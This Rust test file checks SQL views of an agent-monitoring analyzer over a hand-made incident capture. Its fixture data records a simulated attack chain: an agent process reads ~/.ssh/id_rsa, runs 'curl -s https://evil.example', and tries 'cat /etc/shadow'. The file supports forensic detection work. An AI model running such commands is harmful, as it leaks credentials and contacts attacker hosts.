//! Every view and raw table over the hand-made incident capture, with the
//! exact rows expected.

mod common;

use agentsight_analyzer::schema;
use agentsight_testkit::{incident, incident_keys, INCIDENT_ROWS};
use common::*;

#[tokio::test]
async fn raw_tables_have_every_row_and_a_capture_column() {
    let dir = tempfile::tempdir().unwrap();
    incident(dir.path(), "inc").unwrap();
    let s = open(&[dir.path()]).await;
    for (table, n) in INCIDENT_ROWS {
        assert_eq!(
            count(&s, &format!("SELECT count(*) FROM {table}")).await,
            *n as u64,
            "{table}"
        );
        let caps = rows(&s, &format!("SELECT DISTINCT capture FROM {table}")).await;
        assert_eq!(caps, vec![strs(&["inc"])], "{table}");
    }
    // Columns in schema-module order, then capture.
    for t in schema::TABLES {
        let sch = s.schema_of(t.name).await.unwrap();
        let names: Vec<&str> = sch.fields().iter().map(|f| f.name().as_str()).collect();
        let mut want: Vec<&str> = t.columns.iter().map(|c| c.name).collect();
        want.push("capture");
        assert_eq!(names, want);
    }
    // Several segments per table were written; the manifest lists them all.
    let m = agentsight_analyzer::capture::Manifest::load(dir.path()).unwrap();
    assert!(agentsight_analyzer::capture::table_segments(&m, "process_events").len() >= 2);
}

#[tokio::test]
async fn processes_view_has_one_row_per_process() {
    let dir = tempfile::tempdir().unwrap();
    incident(dir.path(), "inc").unwrap();
    let s = open(&[dir.path()]).await;
    let k = incident_keys();
    let got = rows(
        &s,
        "SELECT proc_key, pid, ppid, parent_key, comm, filename, array_to_string(argv, ' '), argv_truncated, cwd, \
         exec_count, snapshot, start_ns, end_ns, exit_code, exit_signal FROM processes",
    )
    .await;
    let row = |key: u64,
               pid,
               ppid,
               parent: u64,
               comm,
               file,
               argv,
               trunc,
               cwd,
               execs,
               snap,
               start,
               end,
               code,
               sig| {
        vec![
            key.to_string(),
            String::from(pid),
            String::from(ppid),
            parent.to_string(),
            String::from(comm),
            String::from(file),
            String::from(argv),
            String::from(trunc),
            String::from(cwd),
            String::from(execs),
            String::from(snap),
            String::from(start),
            String::from(end),
            String::from(code),
            String::from(sig),
        ]
    };
    let want = vec![
        row(
            k.bash,
            "100",
            "1",
            k.init,
            "bash",
            "/usr/bin/bash",
            "bash",
            "false",
            "/home/u",
            "0",
            "true",
            "50000000000",
            "NULL",
            "NULL",
            "NULL",
        ),
        row(
            k.python,
            "200",
            "100",
            k.bash,
            "python3",
            "/usr/bin/python3",
            "python3 agent.py --resume",
            "true",
            "/home/u/agent",
            "2",
            "false",
            "101000000000",
            "120000000000",
            "3",
            "NULL",
        ),
        row(
            k.sh,
            "300",
            "200",
            k.python,
            "bash",
            "/usr/bin/bash",
            "bash /tmp/x.sh",
            "false",
            "NULL",
            "2",
            "false",
            "102000000000",
            "110000000000",
            "0",
            "NULL",
        ),
        row(
            k.curl,
            "400",
            "300",
            k.sh,
            "curl",
            "/usr/bin/curl",
            "curl -s https://evil.example",
            "false",
            "NULL",
            "1",
            "false",
            "103000000000",
            "104000000000",
            "0",
            "NULL",
        ),
        row(
            k.cat,
            "400",
            "200",
            k.python,
            "cat",
            "/usr/bin/cat",
            "cat /etc/shadow",
            "false",
            "NULL",
            "1",
            "false",
            "105000000000",
            "106000000000",
            "NULL",
            "9",
        ),
    ];
    assert_eq!(got, want);
    // Wall-clock times use the manifest anchor (boot 100 s = 2023-11-14T22:13:20Z).
    let t = rows(
        &s,
        &format!(
            "SELECT start_time, end_time, duration_ms FROM processes WHERE proc_key = {}",
            k.python
        ),
    )
    .await;
    assert_eq!(
        t,
        vec![strs(&[
            "2023-11-14T22:13:21Z",
            "2023-11-14T22:13:40Z",
            "19000.0"
        ])]
    );
}

#[tokio::test]
async fn process_tree_follows_keys_not_pids() {
    let dir = tempfile::tempdir().unwrap();
    incident(dir.path(), "inc").unwrap();
    let s = open(&[dir.path()]).await;
    let k = incident_keys();
    let names = |v: Vec<Vec<String>>| v.into_iter().map(|r| r.join(" ")).collect::<Vec<_>>();

    // Subtree of the snapshot shell: 4 levels; cat (pid 400 reused) sits
    // under python, not under sh where the earlier pid 400 lived.
    let sub = rows(&s, &format!("SELECT depth, comm, path FROM process_tree WHERE root_key = {} ORDER BY depth, proc_key", k.bash)).await;
    assert_eq!(
        names(sub),
        [
            "0 bash bash",
            "1 python3 bash > python3",
            "2 bash bash > python3 > bash",
            "2 cat bash > python3 > cat",
            "3 curl bash > python3 > bash > curl"
        ]
    );
    let sh = rows(
        &s,
        &format!(
            "SELECT depth, comm FROM process_tree WHERE root_key = {} ORDER BY depth",
            k.sh
        ),
    )
    .await;
    assert_eq!(names(sh), ["0 bash", "1 curl"]);
    // Ancestors of curl: itself, sh, python, bash (init is never seen).
    let up = rows(
        &s,
        &format!(
            "SELECT depth, root_pid FROM process_tree WHERE proc_key = {} ORDER BY depth",
            k.curl
        ),
    )
    .await;
    assert_eq!(names(up), ["0 400", "1 300", "2 200", "3 100"]);
    let up = rows(
        &s,
        &format!(
            "SELECT depth, root_pid FROM process_tree WHERE proc_key = {} ORDER BY depth",
            k.cat
        ),
    )
    .await;
    assert_eq!(names(up), ["0 400", "1 200", "2 100"]);
    // Closure size: sum over processes of (depth + 1) = 1 + 2 + 3 + 4 + 3.
    assert_eq!(count(&s, "SELECT count(*) FROM process_tree").await, 13);

    // The table functions agree with the view.
    let d = rows(
        &s,
        &format!(
            "SELECT depth, pid, comm, root_key = {} FROM descendants({})",
            k.bash, k.bash
        ),
    )
    .await;
    assert_eq!(
        names(d),
        [
            "0 100 bash true",
            "1 200 python3 true",
            "2 300 bash true",
            "2 400 cat true",
            "3 400 curl true"
        ]
    );
    let a = rows(
        &s,
        &format!(
            "SELECT depth, pid, array_to_string(argv, ' ') FROM ancestors({})",
            k.curl
        ),
    )
    .await;
    assert_eq!(
        names(a),
        [
            "0 400 curl -s https://evil.example",
            "1 300 bash /tmp/x.sh",
            "2 200 python3 agent.py --resume",
            "3 100 bash"
        ]
    );
    let d = rows(
        &s,
        &format!("SELECT count(*) FROM descendants({}, 'inc')", k.sh),
    )
    .await;
    assert_eq!(d, vec![strs(&["2"])]);
    assert_eq!(
        rows(
            &s,
            &format!("SELECT count(*) FROM descendants({}, 'other')", k.sh)
        )
        .await,
        vec![strs(&["0"])]
    );
    assert_eq!(
        rows(&s, "SELECT count(*) FROM descendants(12345)").await,
        vec![strs(&["0"])]
    );
    // Bad arguments are errors, not panics.
    assert!(try_rows(&s, "SELECT * FROM descendants('x')")
        .await
        .is_err());
    assert!(try_rows(&s, "SELECT * FROM ancestors()").await.is_err());
    assert!(try_rows(&s, "SELECT * FROM ancestors(-1)").await.is_err());
}

#[tokio::test]
async fn file_and_net_activity_spell_out_numbers() {
    let dir = tempfile::tempdir().unwrap();
    incident(dir.path(), "inc").unwrap();
    let s = open(&[dir.path()]).await;
    let got = rows(&s, "SELECT pid, op, path, path2, flags_text, mode_text, ok, error, mutating FROM file_activity").await;
    let want = vec![
        strs(&[
            "200",
            "open",
            "/home/u/.ssh/id_rsa",
            "NULL",
            "O_RDONLY|O_CLOEXEC",
            "NULL",
            "true",
            "NULL",
            "false",
        ]),
        strs(&[
            "300",
            "open",
            "/tmp/x.sh",
            "NULL",
            "O_WRONLY|O_CREAT|O_TRUNC",
            "0644",
            "true",
            "NULL",
            "true",
        ]),
        strs(&[
            "300",
            "chmod",
            "/tmp/x.sh",
            "NULL",
            "NULL",
            "0755",
            "true",
            "NULL",
            "true",
        ]),
        strs(&[
            "300", "rename", "/tmp/a", "/tmp/b", "NULL", "NULL", "true", "NULL", "true",
        ]),
        strs(&[
            "400",
            "open",
            "/etc/shadow",
            "NULL",
            "O_RDONLY",
            "NULL",
            "false",
            "EACCES",
            "false",
        ]),
        strs(&[
            "400", "unlink", "/tmp/b", "NULL", "NULL", "NULL", "false", "ENOENT", "true",
        ]),
    ];
    assert_eq!(got, want);
    let t = rows(&s, "SELECT time FROM file_activity LIMIT 1").await;
    assert_eq!(t, vec![strs(&["2023-11-14T22:13:21.500Z"])]);

    let got = rows(
        &s,
        "SELECT pid, op, family, remote, local, ok, error FROM net_activity",
    )
    .await;
    assert_eq!(
        got,
        vec![
            strs(&[
                "200",
                "connect",
                "unix",
                "/run/dbus",
                "NULL",
                "true",
                "NULL"
            ]),
            strs(&[
                "400",
                "connect",
                "inet",
                "93.184.216.34:443",
                "10.0.0.2:40000",
                "true",
                "EINPROGRESS"
            ]),
        ]
    );
}

#[tokio::test]
async fn timeline_orders_everything_with_summaries() {
    let dir = tempfile::tempdir().unwrap();
    incident(dir.path(), "inc").unwrap();
    let s = open(&[dir.path()]).await;
    let got = rows(&s, "SELECT ts_ns, pid, source, kind, summary FROM timeline").await;
    // 15 process + 6 file + 2 net + 2 TLS events + 2 TLS calls (3 chunks).
    assert_eq!(got.len(), 27);
    let ts: Vec<u64> = got.iter().map(|r| r[0].parse().unwrap()).collect();
    assert!(
        ts.windows(2).all(|w| w[0] <= w[1]),
        "not in time order: {ts:?}"
    );
    let lines: Vec<String> = got
        .iter()
        .map(|r| format!("{} {} {}: {}", r[1], r[2], r[3], r[4]))
        .collect();
    let want = [
        "100 process snapshot: already running: bash",
        "200 process fork: started by pid 100",
        "200 process exec: exec /usr/bin/python3: python3 agent.py",
        "200 process exec: exec /usr/bin/python3: python3 agent.py --resume …",
        "200 file open: open /home/u/.ssh/id_rsa O_RDONLY|O_CLOEXEC = fd 3",
        "200 net connect: connect unix /run/dbus",
        "300 process fork: started by pid 200",
        "300 process exec: exec /bin/sh: sh -c bash /tmp/x.sh",
        "300 process exec: exec /usr/bin/bash: bash /tmp/x.sh",
        "300 file open: open /tmp/x.sh O_WRONLY|O_CREAT|O_TRUNC = fd 4",
        "300 file chmod: chmod /tmp/x.sh 0755",
        "300 file rename: rename /tmp/a -> /tmp/b",
        "400 process fork: started by pid 300",
        "400 process exec: exec /usr/bin/curl: curl -s https://evil.example",
        "400 net connect: connect inet 93.184.216.34:443 (in progress)",
        "400 tls set_fd: TLS connection on fd 3",
        "400 tls sni: TLS server name evil.example",
        r"400 tls write: SSL_write 38 bytes: GET / HTTP/1.1\r\nHost: evil.example\r\n\r\n",
        r"400 tls read: SSL_read 32 bytes: HTTP/1.1 200 OK\r\n\r\n",
        "400 process exit: exit 0",
        "400 process fork: started by pid 200",
        "400 process exec: exec /usr/bin/cat: cat /etc/shadow",
        "400 file open: open /etc/shadow O_RDONLY failed: EACCES",
        "400 file unlink: unlink /tmp/b failed: ENOENT",
        "400 process exit: killed by SIGKILL",
        "300 process exit: exit 0",
        "200 process exit: exit 3",
    ];
    assert_eq!(lines, want);
    // The payload itself stays reachable, with invalid UTF-8 made visible.
    let data = rows(
        &s,
        "SELECT bytes_text(data) FROM tls_chunks WHERE chunk_index = 1",
    )
    .await;
    assert_eq!(data, vec![strs(&["echo pwned \\xff\n"])]);
}

#[tokio::test]
async fn views_can_be_listed_and_described() {
    let s = {
        let dir = tempfile::tempdir().unwrap();
        incident(dir.path(), "inc").unwrap();
        open(&[dir.path()]).await
    };
    let names: Vec<&str> = s.views.iter().map(|v| v.name.as_str()).collect();
    for v in [
        "processes",
        "process_tree",
        "file_activity",
        "net_activity",
        "timeline",
    ] {
        assert!(names.contains(&v));
    }
    // Views are real DataFusion views: visible in information_schema.
    let n = count(&s, "SELECT count(*) FROM information_schema.views WHERE table_name IN ('processes', 'timeline')").await;
    assert_eq!(n, 2);
}

#[tokio::test]
async fn processes_view_handles_partial_lifecycles() {
    use agentsight_analyzer::capture::rows::{ProcessRow, Subject};
    use agentsight_analyzer::schema::proc_key;
    use agentsight_testkit::{write_capture, ANCHOR, SEC};
    let dir = tempfile::tempdir().unwrap();
    let orig_parent = proc_key(50, 60 * SEC);
    let init = proc_key(1, 0);
    let (exec_only, fork_only, exit_only, snap_exec) = (
        proc_key(70, 101 * SEC),
        proc_key(71, 102 * SEC),
        proc_key(72, 90 * SEC),
        proc_key(73, 80 * SEC),
    );
    write_capture(dir.path(), "edge", ANCHOR, |sink| {
        let mut b = agentsight_analyzer::capture::rows::RowBuffers::default();
        let s = |t: u64, pid: i32, key: u64, comm: &'static str| Subject {
            ts_ns: t * SEC,
            pid,
            tid: pid,
            proc_key: key,
            comm,
            uid: 0,
        };
        // Seen only from its execs (comm filter); reparented to init before the second.
        b.process.push(&ProcessRow {
            kind: "exec",
            ppid: Some(50),
            parent_key: Some(orig_parent),
            filename: Some("/bin/a"),
            argv: Some(vec!["a"]),
            ..ProcessRow {
                subject: s(102, 70, exec_only, "a"),
                ..Default::default()
            }
        });
        b.process.push(&ProcessRow {
            kind: "exec",
            ppid: Some(1),
            parent_key: Some(init),
            filename: Some("/bin/b"),
            argv: Some(vec![]),
            ..ProcessRow {
                subject: s(103, 70, exec_only, "b"),
                ..Default::default()
            }
        });
        // Forked, never exec'd, killed.
        b.process.push(&ProcessRow {
            kind: "fork",
            ppid: Some(50),
            parent_key: Some(orig_parent),
            ..ProcessRow {
                subject: s(102, 71, fork_only, "bash"),
                ..Default::default()
            }
        });
        b.process.push(&ProcessRow {
            kind: "exit",
            exit_signal: Some(15),
            ..ProcessRow {
                subject: s(104, 71, fork_only, "worker"),
                ..Default::default()
            }
        });
        // Only its exit was seen.
        b.process.push(&ProcessRow {
            kind: "exit",
            exit_code: Some(1),
            ..ProcessRow {
                subject: s(105, 72, exit_only, "late"),
                ..Default::default()
            }
        });
        // Running at start, then exec'd.
        b.process.push(&ProcessRow {
            kind: "snapshot",
            ppid: Some(1),
            parent_key: Some(init),
            filename: Some("/bin/sh"),
            argv: Some(vec!["sh"]),
            ..ProcessRow {
                subject: s(100, 73, snap_exec, "sh"),
                ..Default::default()
            }
        });
        b.process.push(&ProcessRow {
            kind: "exec",
            ppid: Some(1),
            parent_key: Some(init),
            filename: Some("/bin/ls"),
            argv: Some(vec!["ls", ""]),
            ..ProcessRow {
                subject: s(101, 73, snap_exec, "ls"),
                ..Default::default()
            }
        });
        sink(&mut b)
    })
    .unwrap();
    let s = open(&[dir.path()]).await;
    let got = rows(&s, "SELECT pid, ppid, parent_key, comm, filename, argv, exec_count, snapshot, start_ns, end_ns, exit_code, exit_signal FROM processes ORDER BY pid").await;
    let k = |v: u64| v.to_string();
    assert_eq!(
        got,
        vec![
            vec![
                "70".into(),
                "50".into(),
                k(orig_parent),
                "b".into(),
                "/bin/b".into(),
                "[]".into(),
                "2".into(),
                "false".into(),
                "101000000000".into(),
                "NULL".into(),
                "NULL".into(),
                "NULL".into()
            ],
            vec![
                "71".into(),
                "50".into(),
                k(orig_parent),
                "bash".into(),
                "NULL".into(),
                "NULL".into(),
                "0".into(),
                "false".into(),
                "102000000000".into(),
                "104000000000".into(),
                "NULL".into(),
                "15".into()
            ],
            vec![
                "72".into(),
                "NULL".into(),
                "NULL".into(),
                "late".into(),
                "NULL".into(),
                "NULL".into(),
                "0".into(),
                "false".into(),
                "90000000000".into(),
                "105000000000".into(),
                "1".into(),
                "NULL".into()
            ],
            vec![
                "73".into(),
                "1".into(),
                k(init),
                "ls".into(),
                "/bin/ls".into(),
                "[ls, ]".into(),
                "1".into(),
                "true".into(),
                "80000000000".into(),
                "NULL".into(),
                "NULL".into(),
                "NULL".into()
            ],
        ]
    );
}

#[tokio::test]
async fn recursive_view_and_table_functions_agree_on_a_generated_tree() {
    use agentsight_testkit::{synthetic, synthetic_root, SyntheticSpec};
    let dir = tempfile::tempdir().unwrap();
    let spec = SyntheticSpec {
        processes: 2500,
        files_per_process: 1,
        ..Default::default()
    };
    synthetic(dir.path(), spec, |_| {}).unwrap();
    let s = open(&[dir.path()]).await;
    assert_eq!(count(&s, "SELECT count(*) FROM processes").await, 2500);
    let root = synthetic_root();
    assert_eq!(
        count(&s, &format!("SELECT count(*) FROM descendants({root})")).await,
        2500
    );
    // Every agent session (a child of the root) has the same subtree both ways.
    let sessions = rows(
        &s,
        &format!("SELECT proc_key FROM processes WHERE parent_key = {root} ORDER BY proc_key"),
    )
    .await;
    assert_eq!(sessions.len(), 3);
    for r in sessions {
        let k = &r[0];
        let view = rows(
            &s,
            &format!(
                "SELECT proc_key, depth FROM process_tree WHERE root_key = {k} ORDER BY proc_key"
            ),
        )
        .await;
        let func = rows(
            &s,
            &format!(
                "SELECT proc_key, CAST(depth AS BIGINT) FROM descendants({k}) ORDER BY proc_key"
            ),
        )
        .await;
        assert!(view.len() > 100, "session {k} has {} processes", view.len());
        assert_eq!(view, func, "session {k}");
        let deepest = count(&s, &format!("SELECT max(depth) FROM descendants({k})")).await;
        assert!((2..=5).contains(&deepest), "{deepest}");
    }
    // Ancestors of the last process end at the root.
    let last = rows(
        &s,
        "SELECT proc_key FROM processes ORDER BY proc_key DESC LIMIT 1",
    )
    .await;
    let up = rows(
        &s,
        &format!(
            "SELECT proc_key FROM ancestors({}) ORDER BY depth DESC LIMIT 1",
            last[0][0]
        ),
    )
    .await;
    assert_eq!(up[0][0], root.to_string());
}
